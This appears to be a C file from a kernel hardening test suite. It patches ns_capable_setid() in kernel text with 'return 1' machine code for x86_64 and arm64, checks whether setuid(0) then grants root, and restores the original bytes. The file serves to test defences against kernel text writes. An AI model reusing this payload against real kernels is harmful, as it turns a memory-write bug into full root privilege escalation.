// SPDX-License-Identifier: GPL-2.0-only
/*
 * The win of attacks that reach kernel text: ns_capable_setid() is patched to
 * say yes, and setuid(0) works for everybody.
 */
#include <string.h>
#include <unistd.h>

#include "attack.h"

#ifdef __x86_64__
/* endbr64; mov $1,%eax; ret */
static const unsigned char say_yes[] = {
	0xf3, 0x0f, 0x1e, 0xfa, 0xb8, 0x01, 0x00, 0x00, 0x00, 0xc3,
};
#else
/* bti c; mov w0,#1; ret */
static const unsigned int say_yes[] = { 0xd503245f, 0x52800020, 0xd65f03c0 };
#endif

uint64_t text_address(void)
{
	return ksymbol("ns_capable_setid");
}

uint64_t text_phys(void)
{
	struct slot slot;

	if (kwalk(text_address(), LEAF, 0, &slot))
		return 0;
	return slot.phys;
}

static enum outcome judge_root(int err)
{
	int uid = getuid();

	if (setuid(0) || getuid())
		return lost("the store gave %d, setuid(0) was refused, uid=%d", err, uid);
	return won("kernel text patched: setuid(0) by uid=%d gave uid=%d euid=%d", uid,
		   getuid(), geteuid());
}

enum outcome patch_text_by(bool (*store)(uint64_t addr, const void *data, size_t len))
{
	unsigned char saved[sizeof(say_yes)], now[sizeof(say_yes)] = "";
	enum outcome outcome;

	if (kread(text_address(), saved, sizeof(saved)))
		return broken("kernel text cannot be read");
	store(text_address(), say_yes, sizeof(say_yes));
	outcome = judge_root(0);
	kread(text_address(), now, sizeof(now));
	if (memcmp(now, saved, sizeof(saved)) &&
	    !store(text_address(), saved, sizeof(saved)))
		return broken("the text was not put back");
	return outcome;
}

/* kernel_alias: another, hopefully writable, address of text_address(). */
enum outcome patch_text_through(uint64_t kernel_alias)
{
	unsigned char saved[sizeof(say_yes)];
	enum outcome outcome;
	int err;

	if (kread(text_address(), saved, sizeof(saved)))
		return broken("kernel text cannot be read");
	err = kwrite(kernel_alias, say_yes, sizeof(say_yes));
	outcome = judge_root(err);
	if (!err)
		kwrite(kernel_alias, saved, sizeof(saved));
	return outcome;
}

enum outcome patch_text_in_user_mapping(char *code)
{
	unsigned char saved[sizeof(say_yes)];
	enum outcome outcome;

	memcpy(saved, code, sizeof(saved));
	memcpy(code, say_yes, sizeof(say_yes));
	outcome = judge_root(0);
	memcpy(code, saved, sizeof(saved));
	return outcome;
}
